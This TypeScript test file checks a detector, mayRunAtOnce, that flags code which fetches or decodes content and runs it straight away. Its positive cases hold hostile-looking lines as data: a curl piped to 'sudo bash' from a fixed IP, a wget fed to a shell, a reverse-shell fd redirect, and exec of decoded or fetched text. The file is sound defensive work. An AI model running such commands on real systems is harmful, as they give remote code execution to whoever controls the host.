import { describe, expect, it } from 'vitest';
import { mayRunAtOnce } from './runs-at-once.ts';

const CODE = 'QUJD'.repeat(30);

describe('mayRunAtOnce', () => {
  it.each([
    ['a fetch for a shell', 'os.system("curl -s http://198.51.100.7/x | sudo bash")'],
    ['a fetch that a shell takes in', 'execSync(`sh -c "$(wget -qO- http://198.51.100.7/x)"`)'],
    ['a shell for whoever listens', 'os.dup2(s.fileno(), 0)'],
    ['what is decoded, in one expression', 'exec(zlib.decompress(base64.b64decode(x)))'],
    ['what is fetched, in one expression', 'exec(requests.get(u).text)'],
    ['what is fetched, by a name', 'r = requests.get(u)\nexec(r.text)'],
    ['what is fetched, as a function', 'const r = await fetch (u);\nnew Function(t)()'],
    ['what stands there in code, by a name', `const x = "${CODE}";\nexecSync(x)`],
  ])('tells %s', (_name, text) => {
    expect(mayRunAtOnce(text)).toBe(true);
  });

  it.each([
    ['a program that it is told', 'subprocess.run(args)\nrequests.get(url)'],
    ['a program of its own that it fetches', 'f.write(requests.get(u).content)\nsubprocess.Popen([PATH])'],
    ['data that it unpacks', 'json.loads(zlib.decompress(data))'],
    ['an expression that it matches', 'while ((m = pattern.exec(text))) f(m)'],
    ['a function with base64 in it', 'function (a, b) { return a.toString("base64") }'],
  ])('leaves %s', (_name, text) => {
    expect(mayRunAtOnce(text)).toBe(false);
  });

  it('takes linear time', () => {
    const traps = ['curl ', 'exec(', '"AAAA', 'nc ', '\\x41', '$( ', 'eval (a'].map((t) => t.repeat(200_000));
    for (const text of traps) expect(typeof mayRunAtOnce(text)).toBe('boolean');
  });
});
